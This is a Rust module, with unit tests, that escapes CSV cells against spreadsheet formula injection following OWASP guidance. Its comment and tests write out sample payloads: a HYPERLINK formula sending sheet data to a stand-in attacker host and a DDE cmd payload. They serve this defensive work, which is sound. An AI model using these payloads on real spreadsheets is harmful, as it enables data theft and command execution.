//! Cells of the CSV files Kallos writes for people to open in a spreadsheet:
//! validation reports (web and command line), statistics tables and the
//! import template.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (some also after a leading tab or carriage return, and some read
//! the full-width forms `＝＋－＠` the same way), so a submitted value such as
//! `=HYPERLINK("http://attacker.example/?x="&A1,"click")` would become a live
//! link that sends the sheet's data away (OWASP, "CSV Injection"). Following
//! OWASP, every text cell is quoted (quotes inside doubled) and one that
//! starts with such a character is prefixed with a single quote, which
//! spreadsheets show as text and never evaluate. Numbers Kallos writes from
//! numbers go as they are: a negative number in a numeric column stays a
//! number.
//!
//! CSV that Kallos writes only to read back itself (a workbook or FHIR file
//! turned into the import's columns, the single-case form) is not for a
//! spreadsheet and keeps its values exactly.

use std::borrow::Cow;

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_LEADS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Whether a spreadsheet could take `value` for a formula.
pub fn formula_leading(value: &str) -> bool {
    value.starts_with(FORMULA_LEADS)
}

/// A text cell's value, with a single quote before a formula's first
/// character; other values are returned as they are.
pub fn text(value: &str) -> Cow<'_, str> {
    if formula_leading(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// One cell of a CSV line.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Cell<'a> {
    /// Text from anywhere (a submitted value, a label): quoted, and
    /// neutralised when it could be a formula.
    Text(&'a str),
    /// A word Kallos itself writes (a severity, a code): bare, unless it
    /// needs quoting or neutralising, then as [`Cell::Text`].
    Word(&'a str),
    /// A number Kallos computed or counted, written as it is.
    Integer(i64),
}

impl Cell<'_> {
    fn write(&self, out: &mut String) {
        match self {
            Self::Text(value) => {
                out.push('"');
                out.push_str(&text(value).replace('"', "\"\""));
                out.push('"');
            }
            Self::Word(word)
                if !formula_leading(word)
                    && !word.contains(['"', ',', '\n', '\r'])
                    && word.trim() == *word =>
            {
                out.push_str(word);
            }
            Self::Word(word) => Self::Text(word).write(out),
            Self::Integer(n) => out.push_str(&n.to_string()),
        }
    }
}

/// A CSV line (ending in a line break) of these cells.
pub fn line(cells: &[Cell<'_>]) -> String {
    let mut out = String::new();
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        cell.write(&mut out);
    }
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_cell_that_could_be_a_formula_is_prefixed_with_a_quote() {
        for formula in [
            "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "－5",
        ] {
            assert!(formula_leading(formula), "{formula:?}");
            assert_eq!(text(formula), format!("'{formula}"));
        }
        for plain in ["", "BE-LIPO", "1985", "a=b", " =1", "'quoted", "é-1"] {
            assert!(!formula_leading(plain), "{plain:?}");
            assert!(matches!(text(plain), Cow::Borrowed(p) if p == plain));
        }
    }

    #[test]
    fn a_line_quotes_text_and_keeps_numbers() {
        assert_eq!(
            line(&[
                Cell::Integer(-4),
                Cell::Text("case_id"),
                Cell::Text("=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")"),
                Cell::Text("-4"),
                Cell::Text("a, \"b\""),
                Cell::Word("error"),
                Cell::Word("=1+1"),
                Cell::Word("a,b"),
            ]),
            "-4,\"case_id\",\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\",\"'-4\",\"a, \"\"b\"\"\",error,\"'=1+1\",\"a,b\"\n"
        );
    }
}
